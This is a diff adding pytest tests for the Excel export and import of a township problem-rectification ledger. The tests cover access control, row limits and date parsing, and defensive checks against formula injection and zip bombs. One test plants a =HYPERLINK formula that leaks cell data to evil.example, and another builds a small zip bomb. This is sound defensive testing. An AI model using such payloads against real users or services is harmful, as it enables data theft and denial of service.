@@ -2,6 +2,7 @@
 the round trip between them."""
 
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import pytest
@@ -9,6 +10,7 @@ from openpyxl import Workbook, load_workbook
 from sqlmodel import Session, col, select
 
 from backend.core import clock
+from backend.rectification import sheets
 from backend.rectification.models import Problem
 from tests import factories as f
 from tests.rectification.conftest import HUISHI, Api, People, auth, rows
@@ -253,6 +255,14 @@ def test_the_ledger_exports_and_imports_back_as_the_same_problems(
     assert len(shape(uuid.UUID(again["id"]))) == 2
 
 
+def test_the_ledger_is_not_found_for_those_outside_the_list(api: Api, people: People) -> None:
+    batch = api.batch(people.township)
+    api.problem(people.township, batch["id"])
+    for who in (people.outsider, people.other_cadre):
+        r = api.get(who, f"/problem-batches/{batch['id']}/ledger")
+        assert r.status_code == 404 and r.json()["error"] == "not_found"
+
+
 def test_a_word_document_is_not_a_spreadsheet(api: Api, people: People) -> None:
     from docx import Document
 
@@ -261,3 +271,107 @@ def test_a_word_document_is_not_a_spreadsheet(api: Api, people: People) -> None:
     batch = api.batch(people.township)
     r = _import(api, people.township, batch["id"], out.getvalue())
     assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_ledger(
+    api: Api, people: People, session: Session
+) -> None:
+    batch = api.batch(people.township)
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    api.problem(people.township, batch["id"], title=trap, responsible_person="=1+1")
+    r = api.get(people.township, f"/problem-batches/{batch['id']}/ledger")
+    assert r.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    # Written as inline strings (t="inlineStr"), never as <f> formula elements.
+    assert "<f>" not in sheet_xml and "<is><t>=HYPERLINK(" in sheet_xml
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, ws[2], strict=True)}
+    assert row["问题标题"].value == trap and row["问题标题"].data_type == "s"
+    assert row["责任人"].value == "=1+1" and row["责任人"].data_type == "s"
+    # And it imports back as the same text.
+    again = api.batch(people.township, title="复制的清单")
+    assert _import(api, people.township, again["id"], r.content).status_code == 200
+    titles = rows(session, select(Problem.title).where(Problem.title == trap))
+    assert len(titles) == 2
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(
+    api: Api, people: People, session: Session
+) -> None:
+    batch = api.batch(people.township)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        # 20 MB of one letter packs into about 20 KB: 1000:1.
+        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"a" * 20_000_000 + b"</sst>")
+    assert len(out.getvalue()) < 100_000
+    r = _import(api, people.township, batch["id"], out.getvalue())
+    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
+    assert "解压后过大" in r.json()["message"]
+    assert rows(session, select(Problem)) == []
+
+
+def test_more_rows_than_allowed_are_refused_whole(
+    api: Api, people: People, session: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
+    batch = api.batch(people.township)
+    line = ["高家庄村", "台账不规范。", None, "2023-09-15", "台账资料", "高宏伟", "高家庄村委会"]
+    r = _import(api, people.township, batch["id"], xlsx(HEADER, line, line, line), "partial")
+    assert r.status_code == 422 and "最多导入 2 行" in r.json()["message"]
+    assert rows(session, select(Problem)) == []
+
+
+def test_a_title_row_above_the_header_and_serial_number_dates_are_read(
+    api: Api, people: People, session: Session
+) -> None:
+    batch = api.batch(people.township)
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["会师镇2023年调研督查发现问题整改清单"])
+    ws.append([])
+    ws.append(HEADER)
+    # 45199 is how Excel stores 2023-09-30 when the cell lost its date format.
+    ws.append(["高家庄村", "台账不规范。", 1, 45199, "台账资料", "高宏伟", "高家庄村委会"])
+    ws.append(["高家庄村", "环境不整洁。", 2, 9, "人居环境", "高宏伟", "高家庄村委会"])
+    out = io.BytesIO()
+    wb.save(out)
+    r = _import(api, people.township, batch["id"], out.getvalue(), "partial")
+    assert r.status_code == 200, r.text
+    body = r.json()
+    assert body["imported"] == 1 and body["rejected"] == 1
+    # Rows are numbered as Excel shows them, below the header on row 3.
+    assert [row["row"] for row in body["rows"]] == [4, 5]
+    assert body["rows"][1]["errors"][0]["column"] == "整改时限"
+    stored = rows(session, select(Problem))
+    assert [(p.number, p.deadline) for p in stored] == [(1, date(2023, 9, 30))]
+
+
+def test_a_number_taken_while_importing_is_a_conflict_not_a_crash(
+    api: Api, people: People, session: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    batch = api.batch(people.township)
+    original = sheets.service.add_problem
+
+    def racing(**kw):  # type: ignore[no-untyped-def]
+        problem = original(**kw)
+        # What another issuer's insert looks like at commit: the same number in the batch.
+        kw["session"].add(
+            Problem(
+                batch_id=problem.batch_id,
+                number=problem.number,
+                title="同时添加的问题",
+                category=problem.category,
+                area_code=problem.area_code,
+                deadline=problem.deadline,
+            )
+        )
+        return problem
+
+    monkeypatch.setattr(sheets.service, "add_problem", racing)
+    line = ["高家庄村", "台账不规范。", 1, "2023-09-15", "台账资料", "高宏伟", "高家庄村委会"]
+    r = _import(api, people.township, batch["id"], xlsx(HEADER, line))
+    assert r.status_code == 409 and r.json()["error"] == "number_taken"
+    assert rows(session, select(Problem)) == []
